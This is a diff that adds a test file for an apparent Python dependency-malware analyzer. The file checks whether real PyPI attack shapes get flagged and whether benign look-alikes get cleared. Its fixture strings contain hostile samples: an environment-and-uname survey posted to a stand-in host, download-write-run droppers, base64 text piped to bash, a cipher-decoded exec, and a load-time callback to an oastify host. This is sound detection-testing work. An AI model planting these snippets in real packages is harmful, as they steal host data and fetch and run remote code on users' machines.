@@ -1,0 +1,182 @@
+"""Python analyzer: shapes of real PyPI attacks the first rules missed, and their look-alikes."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from depshield.analyzers.python import PythonAnalyzer
+from depshield.model import FileAnalysis, Finding
+
+
+def analyze(source: str, path: str = "pkg/__init__.py") -> FileAnalysis:
+    return PythonAnalyzer().analyze(path, source.encode())
+
+
+def matching(
+    result: FileAnalysis, type_: str, line: int | None = None, **props: Any
+) -> list[Finding]:
+    return [
+        f
+        for f in result.findings
+        if f.type == type_
+        and f.file == result.path
+        and (line is None or f.line == line)
+        and all(f.props.get(k) == v for k, v in props.items())
+    ]
+
+
+ENV_NAMES_PROBE = """\
+import os
+from urllib import request
+
+def report():
+    data = f"env={dict(os.environ).keys()} uname={os.uname()}"
+    request.urlopen("https://collect.example.invalid/r", data=data.encode())
+
+report()
+"""
+
+
+def test_environment_names_formatted_into_data_are_a_host_survey() -> None:
+    result = analyze(ENV_NAMES_PROBE)
+    found = matching(result, "signal:source", 5, kind="system-info")
+    assert found and found[0].top_level is True
+    assert matching(result, "signal:source", 5, kind="hostname")
+
+
+ENV_NAMES_LOOKUP = """\
+import os
+
+prefixed = [k for k in os.environ.keys() if k.startswith("MYAPP_")]
+for name in dict(os.environ).keys():
+    print(name.lower())
+has_proxy = "HTTP_PROXY" in os.environ.keys()
+"""
+
+
+def test_looking_through_environment_names_is_no_source() -> None:
+    assert not matching(analyze(ENV_NAMES_LOOKUP), "signal:source")
+
+
+TEMPFILE_DROPPER = """\
+import subprocess
+import tempfile
+import urllib.request
+
+url = "https://cdn.example.invalid/tool.exe"
+with urllib.request.urlopen(url) as response:
+    with tempfile.NamedTemporaryFile(delete=False) as handle:
+        handle.write(response.read())
+        exe_path = handle.name
+subprocess.call([exe_path])
+"""
+
+
+def test_download_written_to_a_temp_file_and_run() -> None:
+    found = matching(analyze(TEMPFILE_DROPPER), "remoteCodeDownload", 10)
+    assert found and found[0].props["pattern"] == "download-write-run"
+    assert found[0].top_level is True
+
+
+TEMPFILE_PATCH = """\
+import subprocess
+import tempfile
+
+def apply(diff):
+    with tempfile.NamedTemporaryFile("w", suffix=".patch", delete=False) as handle:
+        handle.write(diff)
+        name = handle.name
+    subprocess.run(["git", "apply", name], check=True)
+"""
+
+
+def test_temp_file_of_local_data_given_to_a_tool_is_no_dropper() -> None:
+    result = analyze(TEMPFILE_PATCH)
+    assert not matching(result, "remoteCodeDownload")
+    assert not matching(result, "encodedPayloadExecution")
+
+
+PARTIAL_COMMANDS = """\
+import base64, os, subprocess
+
+def install_hook():
+    blob = base64.b64encode(payload())
+    os.system("echo %s|base64 -d|bash" % blob)
+
+def fetch_and_start():
+    target = os.environ["TEMP"] + "\\\\update.exe"
+    curl = os.environ["WINDIR"] + "\\\\System32\\\\curl.exe"
+    subprocess.call([curl, "https://dl.example.invalid/u.exe", "-o", target])
+    subprocess.call([target], shell=True)
+"""
+
+
+def test_decoded_text_piped_to_a_shell_through_percent_formatting() -> None:
+    found = matching(analyze(PARTIAL_COMMANDS, "setup.py"), "encodedPayloadExecution", 5)
+    assert found and found[0].props == {"how": "pipe", "run": "bash"}
+
+
+def test_file_fetched_by_curl_then_run() -> None:
+    result = analyze(PARTIAL_COMMANDS, "setup.py")
+    assert matching(result, "signal:download", 10, detail="https://dl.example.invalid/u.exe")
+    found = matching(result, "remoteCodeDownload", 11, pattern="download-write-run")
+    assert found and found[0].props["detail"] == ["target"]
+    assert not matching(result, "remoteCodeDownload", 10)
+
+
+BUILD_COMMANDS = """\
+import os, subprocess, sys
+
+def build(compiler, flags):
+    archive = os.path.join(os.environ["TMP"], "src.tar.gz")
+    subprocess.check_call(["curl", "-L", "https://src.example.invalid/x.tgz", "-o", archive])
+    subprocess.check_call(["tar", "xzf", archive])
+    os.system(f"{compiler} {flags} -c ext.c")
+    os.system("%s -m build %s" % (sys.executable, flags))
+"""
+
+
+def test_fetched_archive_unpacked_and_unknown_programs_are_no_threat() -> None:
+    result = analyze(BUILD_COMMANDS, "setup.py")
+    assert not matching(result, "remoteCodeDownload")
+    assert not [f for f in matching(result, "signal:spawn", 7) if "command" in f.props]
+    assert matching(result, "signal:spawn", 8, command="python", args="-m build {?}")
+
+
+SUBSTITUTION_CIPHER = """\
+import string
+plain = string.ascii_letters
+shifted = plain[::-1]
+exec("".join([shifted[plain.index(c)] if c in shifted else c for c in "KIRMG('RMVIG UrcgfIV')"]))
+exec("".join(c for c in "print('a literal copied as it is')"))
+"""
+
+
+def test_literal_rewritten_character_by_character_then_run() -> None:
+    result = analyze(SUBSTITUTION_CIPHER)
+    found = matching(result, "encodedPayloadExecution", 4, sink="exec")
+    assert found and found[0].props["decoder"] == ["substitution"]
+    assert not matching(result, "encodedPayloadExecution", 5)
+
+
+OAST_HOST = "k1." + "oast" + "ify.com"
+LOAD_TIME_PROBE = f"""\
+import requests
+
+requests.get("https://{OAST_HOST}/notify")
+
+def later():
+    requests.get("https://{OAST_HOST}/called")
+"""
+
+
+def test_request_to_a_testing_host_on_load_is_a_probe() -> None:
+    result = analyze(LOAD_TIME_PROBE)
+    found = matching(result, "dataExfiltration", 3, source=["load-time-probe"])
+    assert found and found[0].top_level is True
+    assert not matching(result, "dataExfiltration", 6)
+
+
+def test_request_to_an_ordinary_host_on_load_is_no_probe() -> None:
+    source = 'import requests\nrequests.get("https://api.example.invalid/v1/ping")\n'
+    assert not matching(analyze(source), "dataExfiltration")
